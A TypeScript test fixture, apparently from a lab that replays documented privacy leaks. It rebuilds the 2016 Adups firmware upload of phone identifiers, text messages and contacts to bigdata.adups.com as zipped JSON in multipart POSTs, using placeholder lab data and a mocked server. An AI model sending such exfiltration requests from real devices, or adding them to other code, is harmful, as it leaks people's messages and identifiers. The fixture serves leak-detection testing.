/**
 * Kryptowire, November 2016: firmware by Adups sends text messages and call logs every 72 hours, identifiers every
 * 24 hours, to bigdata.adups.com. Receiver, content and rhythm are documented, formats are not: a zip archive of JSON
 * in a multipart form is assumed.
 */
import { zipSync } from 'fflate';
import type { ReplayCase } from '../case.ts';
import { LAB, labDevice } from '../lab-device.ts';

const BOUNDARY = 'lab-2016-11-15';

const personal = JSON.stringify({ imei: LAB.imei, imsi: LAB.imsi, mac: LAB.mac, sn: LAB.serial, ci: LAB.cell.cid });
const texts = JSON.stringify({
  messages: [{ from: LAB.contact.phone, name: LAB.contact.name, time: '2016-10-04 10:00:00', text: LAB.message }],
});

function archive(name: string, json: string): Buffer {
  // A fixed time, so that the same content gives the same bytes.
  const zip = zipSync({ [name]: Buffer.from(json) }, { mtime: '2016-10-04T10:00:00Z' });
  return Buffer.concat([
    Buffer.from(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${name}.zip"\r\n` +
        'Content-Type: application/zip\r\n\r\n',
    ),
    zip,
    Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
  ]);
}

const inZip = { type: 'leak', where: 'body', decodingIncludes: ['zip', 'json'], hash: null } as const;

export const adups2016: ReplayCase = {
  name: 'adups-2016',
  title: 'Adups firmware sends text messages and identifiers to Shanghai (Kryptowire, November 2016)',
  report: 'Kryptowire, November 2016',
  year: 2016,
  label: null,
  device: () => labDevice('adups-2016', 'BLU R1 HD', { contacts: [LAB.contact], messages: [LAB.message], photos: [] }),
  fields: [
    { name: 'bigdata.adups.com', mark: 'D', note: 'host name; path A' },
    { name: 'text messages every 72 hours, identifiers every 24 hours', mark: 'D', note: 'as reported' },
    { name: 'a zip archive of JSON in a multipart form', mark: 'A', note: 'formats and names' },
    { name: 'address 221.228.1.10', mark: 'A', note: 'an address of China Telecom' },
  ],
  vendors: [
    {
      host: 'bigdata.adups.com',
      port: 443,
      tls: true,
      address: '221.228.1.10',
      addressMark: 'A',
      respond: () => ({ status: 200, body: 'ok' }),
    },
  ],
  phases: ['24-hours', '72-hours'],
  operatorKey: null,
  async phone(phone, phase) {
    const send = (name: string, json: string) =>
      phone.request({
        method: 'POST',
        url: 'https://bigdata.adups.com/fotabd/upload',
        shown: `https://bigdata.adups.com/… (${name}.zip)`,
        mark: 'A',
        headers: [['Content-Type', `multipart/form-data; boundary=${BOUNDARY}`]],
        body: archive(name, json),
      });
    await phase('24-hours', 'a day passes', 'D');
    await send('dc_app.json', personal);
    await phase('72-hours', 'three days pass', 'D');
    await send('dc_msg.json', texts);
  },
  expect: [
    { ...inZip, kind: 'imei' },
    { ...inZip, kind: 'imsi' },
    { ...inZip, kind: 'wifi_mac' },
    { ...inZip, kind: 'serial' },
    { ...inZip, kind: 'cell' },
    { ...inZip, kind: 'message' },
    { ...inZip, kind: 'contact', optional: true },
    { ...inZip, kind: 'phone_number', optional: true },
  ],
};
